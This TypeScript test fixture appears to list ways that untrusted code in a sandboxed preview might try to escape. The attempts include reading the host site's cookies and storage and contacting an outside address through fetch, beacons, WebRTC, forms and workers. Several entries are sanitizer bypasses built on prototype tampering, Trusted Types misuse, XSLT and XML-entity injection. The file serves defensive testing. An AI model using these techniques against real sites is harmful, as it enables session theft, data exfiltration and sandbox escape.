/** A way out of a preview, as a reader's code would try it with the address of another host. */
export type Attempt = (body: Element, elsewhere: string) => unknown;

/** What a reader's code may try, from a shared link say. Each has to end in an error. */
export const refused: Record<string, Attempt> = {
  'reads the page around it': () => parent.document.title,
  'reads the top page': () => top!.document.title,
  'reads the storage of the site': () => parent.localStorage.length,
  'reads the cookies of the site': () => parent.document.cookie,
  'reads the session of the site': () => top!.sessionStorage.length,
  'reaches a peer': async (_, elsewhere) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(elsewhere).host}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'reaches a peer from a frame of its own': async (body, elsewhere) => {
    const frame = document.createElement('iframe');
    body.append(frame);
    const inside = frame.contentWindow as unknown as typeof globalThis;
    const peer = new inside.RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(elsewhere).host}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'runs a page of its own': (body) =>
    new Promise<void>((resolve, reject) => {
      addEventListener('message', ({ data }) => data === 'it ran' && resolve());
      setTimeout(reject, 1000);
      const frame = document.createElement('iframe');
      frame.srcdoc = '<script>parent.postMessage("it ran", "*")</script>';
      body.append(frame);
    }),
  'fetches from a frame of its own': (body, elsewhere) => {
    const frame = document.createElement('iframe');
    body.append(frame);
    return frame.contentWindow!.fetch(elsewhere, { mode: 'no-cors' });
  },
  'listens to events from elsewhere': (_, elsewhere) =>
    new Promise<void>((resolve, reject) => {
      const events = new EventSource(elsewhere);
      events.addEventListener('open', () => resolve());
      events.addEventListener('error', reject);
    }),
  'imports a module from elsewhere': (_, elsewhere) => import(/* @vite-ignore */ elsewhere),
  'moves the top page': (_, elsewhere) => {
    top!.location.href = elsewhere;
  },
  'opens a popup': (_, elsewhere) => {
    if (!open(elsewhere)) throw new Error('There is no popup.');
  },
  'opens a dialog': () => {
    if (!confirm('?')) throw new Error('There is no dialog.');
  },
  'fetches from elsewhere': async (_, elsewhere) => {
    await fetch(elsewhere, { mode: 'no-cors' });
  },
  'asks elsewhere with XMLHttpRequest': (_, elsewhere) =>
    new Promise<void>((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.addEventListener('load', () => resolve());
      request.addEventListener('error', reject);
      request.open('GET', elsewhere);
      request.send();
    }),
  'loads an image from elsewhere': (_, elsewhere) =>
    new Promise<void>((resolve, reject) => {
      const image = new Image();
      image.addEventListener('load', () => resolve());
      image.addEventListener('error', reject);
      image.src = elsewhere;
    }),
  'loads a script from elsewhere': (_, elsewhere) =>
    new Promise<void>((resolve, reject) => {
      const script = document.createElement('script');
      script.addEventListener('load', () => resolve());
      script.addEventListener('error', reject);
      script.src = elsewhere;
      document.head.append(script);
    }),
  'opens a socket to elsewhere': (_, elsewhere) =>
    new Promise<void>((resolve, reject) => {
      const socket = new WebSocket(elsewhere.replace('http', 'ws'));
      socket.addEventListener('open', () => resolve());
      socket.addEventListener('error', reject);
    }),
};

/** These the browser stops without telling the code. */
export const stopped: Record<string, Attempt> = {
  'sends a beacon': (_, elsewhere) => void navigator.sendBeacon(elsewhere, 'x'),
  'sends a form': (body, elsewhere) => {
    const form = document.createElement('form');
    Object.assign(form, { action: elsewhere, method: 'post' });
    body.append(form);
    form.submit();
  },
  'follows a link to a new tab': (body, elsewhere) => {
    const link = document.createElement('a');
    Object.assign(link, { href: elsewhere, target: '_blank' });
    body.append(link);
    link.click();
  },
  'downloads from elsewhere': (body, elsewhere) => {
    const link = document.createElement('a');
    Object.assign(link, { href: elsewhere, download: 'x' });
    body.append(link);
    link.click();
  },
  'prefetches from elsewhere': (_, elsewhere) => {
    for (const rel of ['prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon']) {
      const link = document.createElement('link');
      Object.assign(link, { rel, href: elsewhere, as: 'script' });
      document.head.append(link);
    }
  },
  'connects ahead of a request': (_, elsewhere) => {
    for (const crossOrigin of [null, 'anonymous']) {
      const link = document.createElement('link');
      Object.assign(link, { rel: 'preconnect', href: elsewhere, crossOrigin });
      document.head.append(link);
    }
  },
  'embeds from elsewhere': (body, elsewhere) => {
    for (const [tag, name] of [
      ['object', 'data'],
      ['embed', 'src'],
      ['video', 'src'],
      ['audio', 'src'],
    ] as const) {
      const element = document.createElement(tag);
      element.setAttribute(name, elsewhere);
      body.append(element);
    }
  },
  'pings from a link': (body, elsewhere) => {
    const link = document.createElement('a');
    Object.assign(link, { href: '#here', ping: elsewhere });
    body.append(link);
    link.click();
  },
  'refreshes to elsewhere': (_, elsewhere) => {
    const meta = document.createElement('meta');
    Object.assign(meta, { httpEquiv: 'refresh', content: `0; url=${elsewhere}` });
    document.head.append(meta);
  },
  'asks from a worker': (_, elsewhere) => {
    const code = `fetch(${JSON.stringify(elsewhere)}, { mode: 'no-cors' })`;
    void new Worker(URL.createObjectURL(new Blob([code])));
  },
  'styles itself from elsewhere': (_, elsewhere) => {
    const style = document.createElement('style');
    style.textContent = `@import '${elsewhere}'; body { background: url('${elsewhere}'); }`;
    document.head.append(style);
  },
  'frames elsewhere': (body, elsewhere) => {
    const frame = document.createElement('iframe');
    frame.src = elsewhere;
    body.append(frame);
  },
  'reaches a peer from a page of its own': (body, elsewhere) => {
    const html = `<script>
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${new URL(elsewhere).host}' }] });
      peer.createDataChannel('x');
      peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    </script>`;
    const escaped = html.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
    const tag = `<iframe SRCDOC="${escaped}"></iframe>`;
    // Code that runs before may have replaced whatever looks for the attribute.
    const { includes } = String.prototype;
    String.prototype.includes = () => false;
    const frame = (): HTMLIFrameElement => body.appendChild(document.createElement('iframe'));
    const made = (title = ''): Document => document.implementation.createHTMLDocument(title);
    const { trustedTypes } = globalThis as unknown as {
      trustedTypes: { defaultPolicy: { createHTML(html: string, type: string, sink: string): string } };
    };
    const ways: (() => unknown)[] = [
      // The policy itself, asked for another sink than the one that its result is for.
      () => (frame().srcdoc = trustedTypes.defaultPolicy.createHTML(html, '', 'Element innerHTML')),
      () => (frame().srcdoc = html),
      () => frame().setAttribute('srcdoc', html),
      () => frame().setAttributeNS(null, 'srcdoc', html),
      () => {
        const attribute = document.createAttribute('srcdoc');
        attribute.value = html;
        frame().setAttributeNode(attribute);
      },
      () => {
        const one = frame();
        one.toggleAttribute('srcdoc');
        one.getAttributeNode('srcdoc')!.value = html;
      },
      () => body.insertAdjacentHTML('beforeend', tag),
      () => (body.appendChild(document.createElement('p')).innerHTML = tag),
      () => body.append(document.createRange().createContextualFragment(tag)),
      () => body.append(...new DOMParser().parseFromString(tag, 'text/html').body.childNodes),
      () => {
        const other = made();
        other.body.innerHTML = tag;
        body.append(...other.body.childNodes);
      },
      () => {
        const other = made();
        for (const piece of [tag.slice(0, 10), tag.slice(10)]) other.write(piece);
        body.append(...other.body.childNodes);
      },
      () => {
        const xsl = 'http://www.w3.org/1999/XSL/Transform';
        const sheet = `<x:stylesheet version="1.0" xmlns:x="${xsl}"><x:template match="/"><iframe><x:attribute name="{concat('src', 'doc')}">${escaped}</x:attribute></iframe></x:template></x:stylesheet>`;
        const processor = new XSLTProcessor();
        processor.importStylesheet(new DOMParser().parseFromString(sheet, 'text/xml'));
        const xml = new DOMParser().parseFromString('<x/>', 'text/xml');
        body.append(processor.transformToFragment(xml, document));
      },
      () => {
        const inside = escaped.replaceAll('&', '&#38;').replaceAll("'", '&#38;#39;');
        const entity = `<iframe xmlns='http://www.w3.org/1999/xhtml' src&#100;oc='${inside}'/>`;
        const xml = `<!DOCTYPE x [<!ENTITY a "${entity}">]><x>&a;</x>`;
        body.append(
          document.adoptNode(new DOMParser().parseFromString(xml, 'text/xml').documentElement.firstChild!),
        );
      },
    ];
    for (const way of ways) {
      try {
        way();
      } catch {}
    }
    String.prototype.includes = includes;
  },
  'reaches a peer from a script for an address': (body, elsewhere) => {
    const frame = document.createElement('iframe');
    // Code that runs before may have replaced whatever looks at the sink.
    const iterate = Array.prototype[Symbol.iterator];
    Array.prototype[Symbol.iterator] = (() => [''].values()) as typeof iterate;
    setTimeout(() => (Array.prototype[Symbol.iterator] = iterate), 200);
    frame.src = `javascript:void (async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${new URL(elsewhere).host}' }] });
      peer.createDataChannel('x');
      peer.setLocalDescription(await peer.createOffer());
    })()`;
    body.append(frame);
  },
  'moves itself': (_, elsewhere) => {
    location.href = elsewhere;
  },
};

/** What a click allows that a script alone is refused: the attributes of a link. */
export const links: Record<string, (elsewhere: string) => Record<string, string>> = {
  'a download': (href) => ({ href, download: 'x' }),
  'a new tab': (href) => ({ href, target: '_blank', rel: 'opener' }),
  'the top page': (href) => ({ href, target: '_top' }),
  'the frame around': (href) => ({ href, target: '_parent' }),
  'a ping': (ping) => ({ href: '#here', ping }),
};
